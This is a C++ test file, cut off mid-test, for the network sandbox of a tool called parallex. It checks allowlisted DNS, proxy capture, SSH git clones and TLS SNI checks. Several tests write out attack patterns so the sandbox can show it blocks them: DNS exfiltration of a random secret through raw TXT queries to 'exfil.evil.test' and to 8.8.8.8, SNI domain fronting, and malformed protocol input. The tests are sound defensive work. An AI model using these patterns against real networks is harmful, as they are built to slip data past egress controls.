// The network of a sealed run, end to end, with real programs in real seals
// (`parallex run`): the run's own DNS, transparent capture into the proxy,
// host:port rules, git over SSH, Local servers both ways, and the refusals.
// Loopback servers get names through PARALLEX_TEST_RESOLVE (.test names to
// loopback only, which needs Local servers: proxy/test_resolver.hpp), as the
// proxy's own tests give names to theirs. Run as root, then again as the
// unprivileged user pxtest (NetworkUnprivileged).
#include <arpa/inet.h>
#include <fcntl.h>
#include <grp.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <poll.h>
#include <pwd.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <future>
#include <nlohmann/json.hpp>
#include <random>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "spawn.hpp"
#include "test_paths.hpp"
#include "unprivileged_user.hpp"

namespace fs = std::filesystem;
using nlohmann::json;
using namespace std::chrono_literals;

extern char** environ;

namespace {

const std::string kExe = PARALLEX_EXE;
const std::string kHere = NETWORK_TEST_DIR;

using px::test::have;
using px::test::Outcome;
using px::test::slurp;

// Network runs take a minute at the most.
Outcome spawn_and_wait(const std::vector<std::string>& argv, const std::vector<std::string>& extra,
                       const fs::path& dir, std::chrono::seconds timeout = 60s) {
  return px::test::spawn_and_wait(argv, extra, dir, timeout);
}

// A port no one listens on at this moment (the kernel's pick, released).
int free_port() {
  const int probe = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ::bind(probe, reinterpret_cast<sockaddr*>(&a), sizeof a);
  socklen_t len = sizeof a;
  ::getsockname(probe, reinterpret_cast<sockaddr*>(&a), &len);
  ::close(probe);
  return ntohs(a.sin_port);
}

// A background process whose first stdout line is read (a server's port).
struct Background {
  pid_t pid = -1;
  std::string first_line;
  static Background start(const std::vector<std::string>& argv, bool wait_for_line = true) {
    Background b;
    int p[2];
    if (::pipe2(p, O_CLOEXEC) != 0) return b;
    b.pid = ::fork();
    if (b.pid == 0) {
      ::dup2(p[1], 1);
      ::setpgid(0, 0);
      std::vector<char*> args;
      for (const auto& a : argv) args.push_back(const_cast<char*>(a.c_str()));
      args.push_back(nullptr);
      ::execvp(args[0], args.data());
      ::_exit(127);
    }
    ::close(p[1]);
    pollfd pf{p[0], POLLIN, 0};
    char c;
    while (wait_for_line && ::poll(&pf, 1, 10000) > 0 && ::read(p[0], &c, 1) == 1 && c != '\n')
      b.first_line += c;
    ::close(p[0]);
    return b;
  }
  ~Background() {
    if (pid > 0) {
      ::kill(-pid, SIGKILL);
      ::kill(pid, SIGKILL);
      ::waitpid(pid, nullptr, 0);
    }
  }
};

// A plain HTTP server on 127.0.0.1 (a thread): answers every request with
// "hello from the host" and closes.
class HttpServer {
 public:
  HttpServer() {
    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ::bind(fd_, reinterpret_cast<sockaddr*>(&a), sizeof a);
    ::listen(fd_, 64);
    socklen_t len = sizeof a;
    ::getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len);
    port_ = ntohs(a.sin_port);
    thread_ = std::thread([this] {
      while (!stop_) {
        const int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
        if (c < 0) continue;
        ++connections_;
        std::string head;
        char buf[4096];
        ssize_t n;
        while (head.find("\r\n\r\n") == std::string::npos && (n = ::read(c, buf, sizeof buf)) > 0)
          head.append(buf, static_cast<std::size_t>(n));
        const std::string body = "hello from the host";
        const std::string reply = "HTTP/1.1 200 OK\r\nContent-Length: " + std::to_string(body.size()) +
                                  "\r\nConnection: close\r\n\r\n" + body;
        [[maybe_unused]] auto w = ::write(c, reply.data(), reply.size());
        ::close(c);
      }
    });
  }
  ~HttpServer() {
    stop_ = true;
    ::shutdown(fd_, SHUT_RDWR);
    ::close(fd_);
    thread_.join();
  }
  std::uint16_t port() const { return port_; }
  int connections() const { return connections_; }

 private:
  int fd_ = -1;
  std::uint16_t port_ = 0;
  std::atomic<bool> stop_{false};
  std::atomic<int> connections_{0};
  std::thread thread_;
};

class Network : public ::testing::Test {
 protected:
  void SetUp() override {
    char templ[] = "/tmp/px-network-XXXXXX";
    ASSERT_NE(::mkdtemp(templ), nullptr);
    root_ = templ;
    for (const char* d : {"home", "runtime", "work", "logs"}) {
      fs::create_directories(root_ / d);
      ::chmod((root_ / d).c_str(), 0700);
    }
  }
  void TearDown() override {
    std::error_code ec;
    fs::remove_all(root_, ec);
  }

  // `parallex run FLAGS -- sh -c SCRIPT` in the work folder; `resolve` is the
  // test hook's map (NAME.test=127.0.0.1,...).
  Outcome run(const std::vector<std::string>& flags, const std::string& script,
              const std::string& resolve = {}, const std::vector<std::string>& env = {}) {
    std::vector<std::string> argv{kExe, "run", "--in", (root_ / "work").string()};
    argv.insert(argv.end(), flags.begin(), flags.end());
    argv.insert(argv.end(), {"--", "sh", "-c", script});
    std::vector<std::string> extra{"PARALLEX_HOME=" + (root_ / "home").string(),
                                   "XDG_RUNTIME_DIR=" + (root_ / "runtime").string(),
                                   "PARALLEX_TEST_RESOLVE=" + resolve};
    extra.insert(extra.end(), env.begin(), env.end());
    return spawn_and_wait(argv, extra, root_ / "logs");
  }

  // The run.json of a run (the only one, in the tests that read it).
  fs::path run_record() const {
    fs::path record;
    for (const auto& e : fs::recursive_directory_iterator(root_ / "home"))
      if (e.path().filename() == "run.json") record = e.path();
    return record;
  }

  // The proxy log of the latest run.
  std::vector<json> log() const {
    fs::path newest;
    fs::file_time_type when{};
    for (const auto& e : fs::recursive_directory_iterator(root_ / "home")) {
      if (e.path().filename() != "proxy.jsonl") continue;
      if (newest.empty() || e.last_write_time() > when) {
        newest = e.path();
        when = e.last_write_time();
      }
    }
    std::vector<json> lines;
    std::istringstream in(slurp(newest));
    for (std::string l; std::getline(in, l);)
      if (!l.empty()) lines.push_back(json::parse(l));
    return lines;
  }
  static std::vector<json> where(const std::vector<json>& lines, const std::string& method,
                                 const std::string& host) {
    std::vector<json> out;
    for (const auto& l : lines)
      if (l["method"] == method && l["host"] == host) out.push_back(l);
    return out;
  }
  static std::string dump(const std::vector<json>& lines) {
    std::string s;
    for (const auto& l : lines) s += l.dump() + "\n";
    return s;
  }

  fs::path root_;
};

TEST_F(Network, GetentResolvesAllowedNamesToSyntheticAddressesAndNothingElse) {
  const auto r = run(
      {"--allow", "allowed.test"},
      "getent ahostsv4 api.allowed.test | head -1; getent ahostsv6 api.allowed.test | head -1; "
      "getent hosts evil.test; echo denied=$?; getent hosts other.test; getent hosts localhost | head -1; "
      "cat /etc/resolv.conf");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("198.18."), std::string::npos) << "IPv4 from the run's range: " << r.out;
  EXPECT_NE(r.out.find("fd"), std::string::npos) << "IPv6 from the run's unique-local /64: " << r.out;
  EXPECT_NE(r.out.find("denied=2"), std::string::npos) << "getent: 2 = not found: " << r.out;
  EXPECT_NE(r.out.find("nameserver 127.0.0.1"), std::string::npos) << r.out;
  EXPECT_NE(r.err.find("blocked-by-allowlist: evil.test (DNS query)"), std::string::npos) << r.err;
  // The fix names every refused host, not the first one only.
  EXPECT_NE(r.err.find("to allow them, run again with --allow evil.test --allow other.test (or --online)"),
            std::string::npos)
      << "the fix is said: " << r.err;
  const auto lines = log();
  const auto allowed = where(lines, "DNS", "api.allowed.test");
  ASSERT_FALSE(allowed.empty()) << dump(lines);
  EXPECT_EQ(allowed[0]["verdict"], "allowed");
  EXPECT_EQ(allowed[0]["rcode"], "NOERROR");
  const auto denied = where(lines, "DNS", "evil.test");
  ASSERT_FALSE(denied.empty()) << dump(lines);
  EXPECT_EQ(denied[0]["verdict"], "denied");
  EXPECT_EQ(denied[0]["reason"], "blocked-by-allowlist");
  EXPECT_EQ(denied[0]["rcode"], "NXDOMAIN");
}

// Offline, a program says only that it could not resolve a name: the run
// lists the names it asked for, with the flags that would allow them, and
// points no program at a proxy (there is nothing to reach through one).
TEST_F(Network, AnOfflineRunListsTheNamesItAskedFor) {
  const auto r = run({},
                     "env | grep -ci '^https*_proxy=' | sed 's/^/proxies=/'; getent hosts example.test; "
                     "echo getent=$?; getent hosts api.other.test; true");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("proxies=0"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("getent=2"), std::string::npos) << r.out;
  EXPECT_NE(r.err.find("network-offline: api.other.test (DNS query)"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find(" example.test (DNS query)"), std::string::npos) << r.err;
  EXPECT_NE(
      r.err.find("to allow them, run again with --allow api.other.test --allow example.test (or --online)"),
      std::string::npos)
      << r.err;
}

// A host the rule allows that does not answer is not a refusal: the end of
// the run and the proxy's answer say it could not be reached, apart from what
// the rule refused (for which --allow is the fix; here it would not help).
TEST_F(Network, AnAllowedHostThatDoesNotAnswerIsNotCalledRefused) {
  const auto r =
      run({"--allow", "closed.test:9", "--local-servers"},
          "curl -sS --max-time 5 http://closed.test:9/; curl -sS --max-time 5 https://example.test/; true",
          "closed.test=127.0.0.1");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("parallex proxy could not reach closed.test: connect-failed."), std::string::npos)
      << r.out << r.err;
  EXPECT_NE(r.err.find("the run's proxy refused 1 request and could not reach the host of 1 more"),
            std::string::npos)
      << r.err;
  EXPECT_NE(r.err.find("connect-failed: closed.test:9"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("--allow example.test"), std::string::npos) << r.err;
  EXPECT_EQ(r.err.find("--allow closed.test"), std::string::npos) << r.err;
}

// Claude Code pointed at a server of the user's still calls Anthropic for its
// own sake (telemetry, feature flags): the advice is the switch that quiets
// it, not --allow api.anthropic.com (which would only let that traffic out).
TEST_F(Network, ClaudesOwnTrafficIsQuietedNotAllowed) {
  const auto r =
      run({"--harness", "claude-code", "--local-servers"},
          "getent hosts statsig.anthropic.com; getent hosts api.anthropic.com; getent hosts other.test; true",
          {}, {"ANTHROPIC_BASE_URL=http://localhost:9"});
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.err.find("quiet it with CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1"), std::string::npos)
      << r.err;
  EXPECT_EQ(r.err.find("--allow api.anthropic.com"), std::string::npos) << r.err;
  EXPECT_EQ(r.err.find("--allow statsig.anthropic.com"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("--allow other.test"), std::string::npos)
      << "other hosts keep their --allow: " << r.err;
  // Without a server of the user's, api.anthropic.com is Claude Code's model API: --allow it is.
  const auto plain =
      run({"--harness", "claude-code", "--local-servers"}, "getent hosts api.anthropic.com; true");
  EXPECT_NE(plain.err.find("--allow api.anthropic.com"), std::string::npos) << plain.err;
}

// The same for Codex pointed at a server of the user's (OPENAI_BASE_URL, as
// README's line sets it): its telemetry (ab.chatgpt.com) and its plugins'
// sync (chatgpt.com) get the switches that quiet them; github.com, which the
// sync calls too but a command of the run may need, keeps its --allow.
TEST_F(Network, CodexsOwnTrafficIsQuietedNotAllowed) {
  const auto r = run({"--harness", "codex", "--local-servers"},
                     "getent hosts ab.chatgpt.com; getent hosts chatgpt.com; getent hosts github.com; true",
                     {}, {"OPENAI_BASE_URL=http://localhost:9/v1"});
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.err.find("quiet it with -c analytics.enabled=false -c features.plugins=false"),
            std::string::npos)
      << r.err;
  EXPECT_EQ(r.err.find("--allow ab.chatgpt.com"), std::string::npos) << r.err;
  EXPECT_EQ(r.err.find("--allow chatgpt.com"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("--allow github.com"), std::string::npos) << "github.com keeps its --allow: " << r.err;
  // Without a server of the user's, chatgpt.com is where Codex signed in with ChatGPT talks to its model.
  const auto plain = run({"--harness", "codex", "--local-servers"}, "getent hosts chatgpt.com; true");
  EXPECT_NE(plain.err.find("--allow chatgpt.com"), std::string::npos) << plain.err;
}

// A request without the run's password gets the proxy's 407 challenge, which
// clients (git, Codex) answer by asking again with it: that is no refusal, at
// the end of the run nor in its report. A challenge never answered is one,
// named by its host and port (not "host:port:0"), with what to do.
TEST_F(Network, AnAnsweredProxyChallengeIsNoRefusalAtTheEndNorInTheReport) {
  HttpServer web;
  const std::string port = std::to_string(web.port());
  const std::string script =
      "curl -sS --max-time 10 --proxy-anyauth http://web.test:" + port +
      "/answered; echo; curl -sS --max-time 10 -x \"$(echo \"$http_proxy\" | sed 's#//.*@#//#')\" "
      "http://other.test:" +
      port + "/never; echo; true";
  const auto r = run({"--allow", "web.test:" + port, "--allow", "other.test:" + port, "--local-servers"},
                     script, "web.test=127.0.0.1,other.test=127.0.0.1");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("hello from the host"), std::string::npos) << r.out << r.err;
  const auto lines = log();
  const auto challenged = where(lines, "GET", "web.test:" + port);
  ASSERT_FALSE(challenged.empty()) << "curl asked without the password first: " << dump(lines);
  EXPECT_EQ(challenged[0]["status"], 407) << dump(lines);
  // At the end of the run: only the unanswered one, with its fix.
  EXPECT_EQ(r.err.find("web.test"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("proxy-auth-required: other.test:" + port), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("HTTP_PROXY"), std::string::npos) << "the fix: " << r.err;
  // The run's report says the same.
  const auto report = spawn_and_wait(
      {kExe, "report", "--json"},
      {"PARALLEX_HOME=" + (root_ / "home").string(), "XDG_RUNTIME_DIR=" + (root_ / "runtime").string()},
      root_ / "logs");
  ASSERT_EQ(report.status, 0) << report.err;
  const json j = json::parse(report.out, nullptr, false);
  ASSERT_TRUE(j.is_object()) << report.out;
  const json& hosts = j["runs"][0]["hosts"];
  ASSERT_EQ(hosts["refused"].size(), 1u) << hosts.dump(1);
  EXPECT_EQ(hosts["refused"][0]["host"], "other.test") << hosts.dump(1);
  EXPECT_EQ(hosts["refused"][0]["port"], web.port()) << hosts.dump(1);
  EXPECT_EQ(hosts["refused"][0]["reasons"], json::array({"proxy-auth-required"})) << hosts.dump(1);
  ASSERT_EQ(hosts["reached"].size(), 1u) << hosts.dump(1);
  EXPECT_EQ(hosts["reached"][0]["host"], "web.test") << hosts.dump(1);
  EXPECT_EQ(hosts["reached"][0]["connections"], 1) << "the challenge is no connection: " << hosts.dump(1);
}

TEST_F(Network, CurlWithoutProxyAndNodeFetchAreCaptured) {
  HttpServer web;
  const std::string port = std::to_string(web.port());
  std::string script = "curl -sS --noproxy '*' --max-time 10 http://web.test:" + port + "/curl; echo";
  if (have("node"))
    script += "; node -e 'fetch(\"http://web.test:" + port +
              "/node\").then(r => r.text()).then(t => console.log(\"node:\", t), e => console.log(\"node "
              "error\", e))'";
  const auto r = run({"--allow", "web.test:" + port, "--local-servers"}, script, "web.test=127.0.0.1");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("hello from the host\n"), std::string::npos) << r.out << r.err;
  if (have("node")) {
    EXPECT_NE(r.out.find("node: hello from the host"), std::string::npos) << r.out << r.err;
  }
  const auto lines = log();
  const auto captured = where(lines, "TCP", "web.test");
  ASSERT_GE(captured.size(), have("node") ? 2u : 1u) << dump(lines);
  for (const auto& c : captured) {
    EXPECT_EQ(c["verdict"], "allowed");
    EXPECT_EQ(c["port"], web.port());
    EXPECT_EQ(c["address"], "127.0.0.1") << "connected to the address the proxy checked";
  }
}

TEST_F(Network, PythonSocketAndTlsToAnAllowedHostAndSniMismatchRefused) {
  if (!have("python3") || !have("openssl")) GTEST_SKIP() << "python3 or openssl is not installed";
  const fs::path cert = root_ / "cert.pem", key = root_ / "key.pem";
  const auto made =
      spawn_and_wait({"openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
                      "-nodes", "-days", "1", "-subj", "/CN=tls.test", "-addext",
                      "subjectAltName=DNS:tls.test", "-keyout", key.string(), "-out", cert.string()},
                     {}, root_ / "logs");
  ASSERT_EQ(made.status, 0) << made.err;
  fs::copy_file(cert, root_ / "work" / "ca.pem");
  Background server = Background::start({"python3", kHere + "/tls_server.py", cert.string(), key.string()});
  ASSERT_FALSE(server.first_line.empty()) << "the TLS server did not start";
  const std::string port = server.first_line;
  const std::string client = R"PY(
import socket, ssl, sys
port = int(sys.argv[1])
ctx = ssl.create_default_context(cafile="ca.pem")
with socket.create_connection(("tls.test", port), timeout=10) as s:
    print("peer", s.getpeername()[0])
    with ctx.wrap_socket(s, server_hostname="tls.test") as t:
        print("tls:", t.recv(100).decode().strip())
ctx.check_hostname = False
try:
    with socket.create_connection(("tls.test", port), timeout=10) as s:
        with ctx.wrap_socket(s, server_hostname="other.test") as t:
            print("fronted:", t.recv(100))
except (OSError, ssl.SSLError) as e:
    print("fronting refused:", type(e).__name__)
)PY";
  {
    std::ofstream f(root_ / "work" / "client.py");
    f << client;
  }
  const auto r = run({"--allow", "tls.test:" + port, "--local-servers"}, "python3 client.py " + port,
                     "tls.test=127.0.0.1");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_TRUE(r.out.find("peer 198.18.") != std::string::npos || r.out.find("peer fd") != std::string::npos)
      << "connected to a synthetic address: " << r.out;
  EXPECT_NE(r.out.find("tls: hello over tls"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.out.find("fronting refused"), std::string::npos) << r.out << r.err;
  const auto lines = log();
  const auto tcp = where(lines, "TCP", "tls.test");
  ASSERT_EQ(tcp.size(), 2u) << dump(lines);
  EXPECT_EQ(tcp[0]["verdict"], "allowed");
  EXPECT_EQ(tcp[0]["inspected"], "tls-sni");
  EXPECT_EQ(tcp[1]["verdict"], "denied");
  EXPECT_EQ(tcp[1]["reason"], "sni-mismatch");
}

TEST_F(Network, GoClientWithProxyNilResolvesAndConnectsThroughTheRun) {
  if (!have("go")) GTEST_SKIP() << "go is not installed (apt-get install golang-go)";
  HttpServer web;
  const fs::path bin = root_ / "work" / "noproxy_get";
  // Built outside the seal (static, Go's own resolver); a cache shared between test runs, in
  // the user's own cache folder (a fixed name in /tmp is anyone's to make first and fill).
  const char* home = std::getenv("HOME");
  const fs::path gocache =
      home && *home ? fs::path(home) / ".cache" / "parallex-tests" / "go-build" : root_ / "gocache";
  const auto built = spawn_and_wait({"go", "build", "-o", bin.string(), kHere + "/noproxy_get.go"},
                                    {"CGO_ENABLED=0", "GOCACHE=" + gocache.string(),
                                     "GOPATH=" + (root_ / "gopath").string(), "GO111MODULE=off"},
                                    root_ / "logs", 300s);
  ASSERT_EQ(built.status, 0) << built.out << built.err;
  const std::string url = "http://web.test:" + std::to_string(web.port()) + "/go";
  const auto r = run({"--allow", "web.test:" + std::to_string(web.port()), "--local-servers"},
                     "GODEBUG=netdns=go ./noproxy_get " + url, "web.test=127.0.0.1");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_EQ(r.out, "200 hello from the host");
  EXPECT_FALSE(where(log(), "TCP", "web.test").empty()) << dump(log());
}

TEST_F(Network, GitCloneOverSshFromATestSshdWithTheAgentsOwnKey) {
  if (!have("git") || !have("ssh") || !fs::exists("/usr/sbin/sshd"))
    GTEST_SKIP() << "git, ssh or sshd is not installed (apt-get install openssh-server)";
  const fs::path s = root_ / "sshd";
  fs::create_directories(s);
  const auto keygen = spawn_and_wait(
      {"ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", (s / "host").string()}, {}, root_ / "logs");
  ASSERT_EQ(keygen.status, 0) << keygen.err;
  // The repository the run clones.
  const fs::path repo = s / "repo.git";
  const std::vector<std::string> git_env{"GIT_CONFIG_NOSYSTEM=1", "HOME=" + s.string(),
                                         "GIT_AUTHOR_NAME=t",     "GIT_AUTHOR_EMAIL=t@t",
                                         "GIT_COMMITTER_NAME=t",  "GIT_COMMITTER_EMAIL=t@t"};
  ASSERT_EQ(
      spawn_and_wait({"git", "init", "-q", "--bare", "-b", "main", repo.string()}, git_env, root_ / "logs")
          .status,
      0);
  const auto seeded = spawn_and_wait(
      {"sh", "-c",
       "set -e; git init -q -b main " + (s / "seed").string() + " && cd " + (s / "seed").string() +
           " && echo 'cloned over ssh' > README && git add README && git commit -q -m one && git push -q " +
           repo.string() + " main"},
      git_env, root_ / "logs");
  ASSERT_EQ(seeded.status, 0) << seeded.err;

  const std::string port = std::to_string(free_port());

  // An agent: its key is the one the sshd knows; its rules (agent.yaml) open
  // the sshd's name on that port only.
  const auto pw = ::getpwuid(::getuid());
  ASSERT_NE(pw, nullptr);
  const std::vector<std::string> px_env{"PARALLEX_HOME=" + (root_ / "home").string(),
                                        "XDG_RUNTIME_DIR=" + (root_ / "runtime").string()};
  const auto made = spawn_and_wait({kExe, "agent", "new", "sshbot", "--email", "sshbot@example.com",
                                    "--allow", "gitsrv.test:" + port, "--local-servers", "on"},
                                   px_env, root_ / "logs");
  ASSERT_EQ(made.status, 0) << made.err;
  fs::path agent_key;
  for (const auto& e : fs::recursive_directory_iterator(root_ / "home"))
    if (e.path().filename() == "id_ed25519.pub" &&
        e.path().parent_path().parent_path().filename() == "sshbot")
      agent_key = e.path();
  ASSERT_FALSE(agent_key.empty());
  fs::copy_file(agent_key, s / "authorized_keys");
  ::chmod((s / "authorized_keys").c_str(), 0600);

  // sshd, as whoever runs the test (root needs its privsep dir).
  if (::getuid() == 0) fs::create_directories("/run/sshd");
  {
    std::ofstream c(s / "sshd_config");
    c << "Port " << port << "\nListenAddress 127.0.0.1\nHostKey " << (s / "host").string()
      << "\nAuthorizedKeysFile " << (s / "authorized_keys").string()
      << "\nStrictModes no\nPasswordAuthentication no\nKbdInteractiveAuthentication no\n"
         "PermitRootLogin prohibit-password\nUsePAM no\nPidFile "
      << (s / "pid").string() << "\n";
  }
  Background sshd =
      Background::start({"/usr/sbin/sshd", "-f", (s / "sshd_config").string(), "-D", "-e"}, false);
  for (int i = 0; i < 100; ++i) {
    const int t = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    a.sin_port = htons(static_cast<std::uint16_t>(std::stoi(port)));
    const bool up = ::connect(t, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0;
    ::close(t);
    if (up) break;
    std::this_thread::sleep_for(20ms);
  }

  // The agent's run: git's ssh is the agent's (its key, its known hosts), the
  // connection is captured (no ProxyCommand), the user's ~/.ssh stays hidden.
  std::vector<std::string> argv{kExe,
                                "agent",
                                "run",
                                "sshbot",
                                "--in",
                                (root_ / "work").string(),
                                "--",
                                "sh",
                                "-c",
                                "git clone -q ssh://" + std::string(pw->pw_name) + "@gitsrv.test:" + port +
                                    repo.string() +
                                    " clone && cat clone/README; ls ~/.ssh 2>&1 | head -1; "
                                    "echo auth_sock=${SSH_AUTH_SOCK:-unset}"};
  std::vector<std::string> env = px_env;
  env.push_back("PARALLEX_TEST_RESOLVE=gitsrv.test=127.0.0.1");
  env.push_back("SSH_AUTH_SOCK=/tmp/user-agent.sock");
  const auto r = spawn_and_wait(argv, env, root_ / "logs", 120s);
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("cloned over ssh"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.out.find("auth_sock=unset"), std::string::npos)
      << "the user's ssh-agent is not passed: " << r.out;
  const auto lines = log();
  const auto tcp = where(lines, "TCP", "gitsrv.test");
  ASSERT_FALSE(tcp.empty()) << dump(lines);
  EXPECT_EQ(tcp[0]["verdict"], "allowed");
  EXPECT_EQ(tcp[0]["inspected"], "none") << "SSH is relayed as raw TCP, and the log says so";
}

TEST_F(Network, DnsExfiltrationEndsInTheRun) {
  std::mt19937_64 rng(std::random_device{}());
  std::string label;
  for (int i = 0; i < 60; ++i) label += "abcdefghijklmnopqrstuvwxyz0123456789"[rng() % 36];
  const std::string secret = label + ".exfil.evil.test";
  // A raw TXT query too (what exfiltration tools use), and a query to a DNS
  // server outside: no packet leaves the namespace.
  const std::string script = "getent hosts " + secret +
                             "; echo getent=$?; python3 - <<'EOF'\n"
                             "import socket, struct\n"
                             "name = '" +
                             secret +
                             "'\n"
                             "q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)\n"
                             "q += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0'\n"
                             "q += struct.pack('>HH', 16, 1)\n"
                             "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n"
                             "s.sendto(q, ('127.0.0.1', 53)); a = s.recv(512)\n"
                             "print('txt rcode', a[3] & 15, 'answers', struct.unpack('>H', a[6:8])[0])\n"
                             "o = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                             "try:\n    o.sendto(q, ('8.8.8.8', 53)); print('outside: sent?!')\n"
                             "except OSError as e: print('outside:', e.errno)\n"
                             "EOF";
  const auto r = run({"--allow", "allowed.test"}, script);
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("getent=2"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("txt rcode 3 answers 0"), std::string::npos) << "NXDOMAIN, answered inside: " << r.out;
  EXPECT_NE(r.out.find("outside: 101"), std::string::npos) << "ENETUNREACH: " << r.out;
  const auto lines = log();
  const auto asked = where(lines, "DNS", secret);
  ASSERT_GE(asked.size(), 2u) << dump(lines);
  for (const auto& l : asked) {
    EXPECT_EQ(l["verdict"], "denied");
    EXPECT_EQ(l["reason"], "blocked-by-allowlist");
  }
  EXPECT_TRUE(where(lines, "TCP", secret).empty());
  EXPECT_NE(r.err.find(secret + " (DNS query)"), std::string::npos) << r.err;
}

TEST_F(Network, RefusedAtOnceOutsideTheCapturedPortsAndUdpRefused) {
  HttpServer web;
  const std::string port = std::to_string(web.port());
  const std::string script =
      "python3 - <<'EOF'\n"
      "import socket, time\n"
      "def tcp(host, port):\n"
      "    t = time.monotonic()\n"
      "    try:\n"
      "        socket.create_connection((host, port), timeout=5).close(); return 'open'\n"
      "    except OSError as e: return '%d in %.1fs' % (e.errno, time.monotonic() - t)\n"
      "web = socket.getaddrinfo('web.test', None, socket.AF_INET)[0][4][0]\n"
      "print('never allowed', tcp('198.18.0.200', 443))\n"
      "print('other port', tcp(web, " +
      std::to_string(web.port() == 65535 ? 1 : web.port() + 1) +
      "))\n"
      "print('allowed port', tcp(web, " +
      port +
      "))\n"
      "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3); u.connect((web, 443))\n"
      "u.send(b'quic initial')\n"
      "try: u.recv(100); print('udp answered?!')\n"
      "except OSError as e: print('udp', e.errno)\n"
      "EOF";
  const auto r = run({"--allow", "web.test:" + port, "--local-servers"}, script, "web.test=127.0.0.1");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("never allowed 111 in 0.0s"), std::string::npos) << "ECONNREFUSED at once: " << r.out;
  EXPECT_NE(r.out.find("other port 111 in 0.0s"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("allowed port open"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("udp 111"), std::string::npos) << "UDP (QUIC) refused: ICMP unreachable: " << r.out;
}

TEST_F(Network, GarbageOnACapturedConnectionOrTheDnsIsRefusedAndServingGoesOn) {
  HttpServer web;
  const std::string port = std::to_string(web.port());
  const std::string script =
      "python3 - <<'EOF'\n"
      "import socket, struct\n"
      "s = socket.create_connection(('web.test', 443), timeout=5)\n"
      "s.sendall(b'\\x00\\x01 not tls, not http\\r\\n\\r\\n')\n"
      "try: print('garbage answer', s.recv(100))\n"
      "except OSError as e: print('garbage reset', e.errno)\n"
      "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)\n"
      "u.sendto(b'\\xff' * 7, ('127.0.0.1', 53))\n"
      "try: u.recv(512); print('short answered?!')\n"
      "except OSError: print('short dropped')\n"
      "u.sendto(struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + b'\\x05web', ('127.0.0.1', 53))\n"
      "a = u.recv(512); print('formerr', a[3] & 15)\n"
      "t = socket.create_connection(('127.0.0.1', 53), timeout=5)\n"
      "t.sendall(b'\\x00\\x03abc')\n"
      "print('tcp dns garbage closed', t.recv(10) == b'')\n"
      "EOF\n"
      "curl -sS --noproxy '*' --max-time 10 http://web.test:" +
      port + "/after";
  const auto r = run({"--allow", "web.test", "--allow", "web.test:" + port, "--local-servers"}, script,
                     "web.test=127.0.0.1");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("garbage reset 104"), std::string::npos) << "ECONNRESET: " << r.out;
  EXPECT_NE(r.out.find("short dropped"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("formerr 1"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("tcp dns garbage closed True"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("hello from the host"), std::string::npos) << "the proxy keeps serving: " << r.out;
  EXPECT_EQ(web.connections(), 1) << "nothing of the garbage reached the upstream";
  const auto lines = log();
  bool unexpected = false, malformed = false;
  for (const auto& l : lines) {
    unexpected = unexpected || (l["method"] == "TCP" && l["reason"] == "unexpected-protocol");
    malformed = malformed || (l["method"] == "DNS" && l["reason"] == "dns-malformed");
  }
  EXPECT_TRUE(unexpected) << dump(lines);
